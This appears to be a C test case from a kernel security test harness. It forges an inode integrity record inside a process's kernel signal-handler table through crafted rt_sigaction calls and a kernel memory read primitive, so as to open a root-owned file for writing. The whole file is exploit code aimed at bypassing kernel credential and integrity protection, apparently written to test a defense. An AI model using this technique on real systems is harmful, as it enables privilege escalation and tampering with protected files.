// SPDX-License-Identifier: GPL-2.0-only
#include "forged_record.h"

ATTACK("cred_integrity", "record_in_handlers", "cred_integrity: the seal of a file is not its own",
       "The program installs signal handlers whose words, in the sealed table that keeps them, are "
       "a record that lets everybody write to root's file, and leads the inode there.",
       "A record is believed in slabs of its own type alone; those of handlers hold what programs "
       "choose.",
       "It opens root's file for writing, or changes its mode.");

#define ACTION_WORDS 4
#define FIRST_SIGNAL 32 /* there and behind all may be handled */
#define SEAL_WORDS 40   /* no less than an inode's seal has */

/* By the places of its members in the kernel's table; the kernel's own order is another. */
static uint64_t words[SEAL_WORDS + 2 * ACTION_WORDS];

/* As rt_sigaction(2) takes them. */
static void install(int number, const uint64_t *action)
{
	const uint64_t given[] = { action[member("signal_action.handler") / 8],
				   action[member("signal_action.flags") / 8],
				   action[member("signal_action.restorer") / 8],
				   action[member("signal_action.mask") / 8] };

	call4(__NR_rt_sigaction, number, (long)given, 0, 8);
}

/* Of the record three words may be chosen: it begins behind the word of flags. */
static uint64_t first_word(void)
{
	return (member("signal_action.flags") / 8 + 1 + SEAL_WORDS -
		member("inode_seal.record") / 8) %
	       ACTION_WORDS;
}

static uint64_t forge(long file)
{
	const uint64_t process = peek(own_task() + member("task.process"));
	const uint64_t table =
		peek(peek(process + member("process.actions")) + member("signal_actions.table"));
	const uint64_t first = first_word();
	const uint64_t place = table + member("signal_table.action") +
			       (FIRST_SIGNAL - 1) * ACTION_WORDS * 8 + first * 8;

	forge_record(words + first, SEAL_WORDS, file, place);
	for (int i = 0; i < (SEAL_WORDS + ACTION_WORDS) / ACTION_WORDS; i++)
		install(FIRST_SIGNAL + i, words + i * ACTION_WORDS);
	return place;
}

static bool fire(void)
{
	const long file = call3(__NR_open, (long)PUBLIC, O_RDONLY, 0);

	return opens_by(file, forge(file));
}

static void victim(void)
{
	victim_waits();
}
